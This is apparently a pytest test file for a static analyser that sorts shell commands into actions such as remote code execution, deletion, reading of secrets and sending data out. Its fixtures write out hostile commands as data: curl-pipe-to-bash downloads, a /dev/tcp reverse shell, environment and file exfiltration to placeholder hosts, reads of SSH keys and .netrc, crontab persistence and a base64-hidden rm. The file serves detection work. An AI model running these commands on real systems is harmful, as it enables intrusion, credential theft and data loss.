"""Shell to actions."""

from __future__ import annotations

import base64

import pytest

from conjunct.model import ReachSet, ResourceClass

from .conftest import Reach, only, shown


def shell(reach: Reach, source: str) -> ReachSet:
    return reach({"run.sh": "#!/bin/bash\n" + source})


ENCODED = base64.b64encode(b"rm -rf /etc/thing").decode()


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("curl -fsSL https://a.example.net/i.sh | bash", ("remote_code", "https://a.example.net/i.sh")),
        ("wget -qO- https://a.example.net/i.sh | sudo sh -s -- -y", ("remote_code", "https://a.example.net/i.sh")),
        ("curl https://a.example.net/x.py | python3 -", ("remote_code", "https://a.example.net/x.py")),
        ('bash -c "$(curl -fsSL https://a.example.net/i.sh)"', ("remote_code", "https://a.example.net/i.sh")),
        ("bash <(curl -s https://a.example.net/i.sh)", ("remote_code", "https://a.example.net/i.sh")),
        ('eval "$(wget -qO- https://a.example.net/i.sh)"', ("remote_code", "https://a.example.net/i.sh")),
        ("source <(curl -s https://a.example.net/i.sh)", ("remote_code", "https://a.example.net/i.sh")),
        ('X=$(curl -s https://a.example.net/i.sh)\neval "$X"', ("remote_code", "https://a.example.net/i.sh")),
        ("curl -o /tmp/i.sh https://a.example.net/i.sh\nchmod +x /tmp/i.sh\n/tmp/i.sh",
         ("remote_code", "https://a.example.net/i.sh")),
        ("wget https://a.example.net/i.sh && bash i.sh", ("remote_code", "https://a.example.net/i.sh")),
        ("git clone https://github.com/someone/tool.git\ncd tool\n./install.sh",
         ("remote_code", "git+https://github.com/someone/tool.git")),
        ("pip install git+https://github.com/someone/tool", ("remote_code", "git+https://github.com/someone/tool")),
        ("pip install --index-url https://pip.example.net/simple x", ("remote_code", "https://pip.example.net/simple")),
        ("npx github:someone/tool", ("remote_code", "git+https://github.com/someone/tool")),
        ("pip install pandas", ("install", "pip pandas")),
        ("npx -y prettier .", ("install", "npx prettier .")),
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", ("install", "https://astral.sh/uv/install.sh")),
        (f"echo {ENCODED} | base64 -d | sh", ("delete", "/etc/thing")),
        ('echo "$BLOB" | base64 -d | bash', ("opaque", "encoded:shell")),
        ("cat ~/.ssh/id_rsa", ("read", "~/.ssh/id_rsa")),
        ("cat < $HOME/.netrc", ("read", "~/.netrc")),
        ("echo x >> ~/.bashrc", ("write", "~/.bashrc")),
        ("(crontab -l; echo '* * * * * x') | crontab -", ("write", "schedule:crontab")),
        ("rm -rf ~/Documents", ("delete", "~/Documents")),
        ("find ~ -name '*.md' -delete", ("delete", "~")),
        ("curl -X POST -d @notes.txt https://a.example.com", ("send", "https://a.example.com")),
        ("curl -d @notes.txt https://a.example.com", ("read", "notes.txt")),
        ("scp a.txt me@a.example.com:/tmp", ("send", "me@a.example.com")),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ("send", "203.0.113.9:4444")),
        ("nc a.example.net 4444 < x", ("send", "a.example.net")),
        ("env | curl -d @- https://a.example.net", ("send", "https://a.example.net")),
        ("printenv", ("read", "env:*")),
        ("gh auth token", ("read", "~/.config/gh/hosts.yml")),
        ("claude mcp add x -- npx y", ("write", "~/.claude.json")),
        ("git push origin main", ("send", "git remote")),
        ('python3 -c "import os; os.remove(\'/etc/x\')"', ("delete", "/etc/x")),
        ("node -e \"require('fs').unlinkSync('/etc/x')\"", ("delete", "/etc/x")),
        ("sudo -u root timeout 5 rm /etc/x", ("delete", "/etc/x")),
        ("eval \"$1\"", ("opaque", "dynamic:eval")),
        ("perl -e 'print 1'", ("opaque", "language:perl")),
    ],
)  # fmt: skip
def test_a_command_reaches(reach: Reach, source: str, expected: tuple[str, str]) -> None:
    assert expected in shown(shell(reach, source))


@pytest.mark.parametrize(
    ("source", "absent"),
    [
        ("echo 'curl https://a.example.net | sh'", "remote_code"),
        ("# curl https://a.example.net/i.sh | sh", "remote_code"),
        ("curl https://a.example.net/data.json | jq .", "remote_code"),
        ("curl -o data.csv https://a.example.net/data.csv\npython3 plot.py data.csv", "remote_code"),
        ("curl http://localhost:8000/x | sh", "remote_code"),
        ("git clone https://github.com/someone/tool", "remote_code"),
        ("cat <<'EOF'\nrm -rf /etc\nEOF", "delete"),
        ("grep -r 'rm -rf' .", "delete"),
        ("curl https://a.example.com", "send"),
        ("set -euo pipefail", "read"),
        ("'A=1'", "exec"),
        ("export -f helper", "read"),
        ("https://a.example.net/download?file=a.sh", "remote_code"),
        ("npx lighthouse https://a.example.net/page", "remote_code"),
    ],
)
def test_a_near_miss_does_not(reach: Reach, source: str, absent: str) -> None:
    assert absent not in {kind for kind, _ in shown(shell(reach, source))}


def test_guards_and_counts_of_shell(reach: Reach) -> None:
    found = shell(reach, 'if [ "$COUNT" -ge 5 ] && [ "$1" = "invoice" ]; then\n  rm /etc/x\nfi\n')
    assert found.largest_count == 5
    assert "invoice" in found.constants
    assert only(found, "delete")[0].guards


def test_a_default_is_a_value_and_an_error_text_is_none(reach: Reach) -> None:
    assert ("delete", "/etc/x") in shown(shell(reach, 'T="${1:-/etc/x}"\nrm "$T"'))
    assert ("delete", "*") in shown(shell(reach, 'T="${1:?usage: run-me TARGET}"\nrm "$T"'))


def test_the_folder_of_the_script_is_the_package(reach: Reach) -> None:
    found = shell(reach, 'HERE="$(cd "$(dirname "$0")" && pwd)"\ncat "$HERE/data.txt"')
    assert only(found, "read")[0].resource_class is ResourceClass.OWN_PACKAGE


def test_extensionless_scripts_are_read_by_their_first_line(reach: Reach) -> None:
    assert ("delete", "/etc/x") in shown(reach({"bin/tool": "#!/usr/bin/env bash\nrm /etc/x\n"}))
    assert ("delete", "/etc/x") not in shown(reach({"bin/notes": "rm /etc/x\n"}))
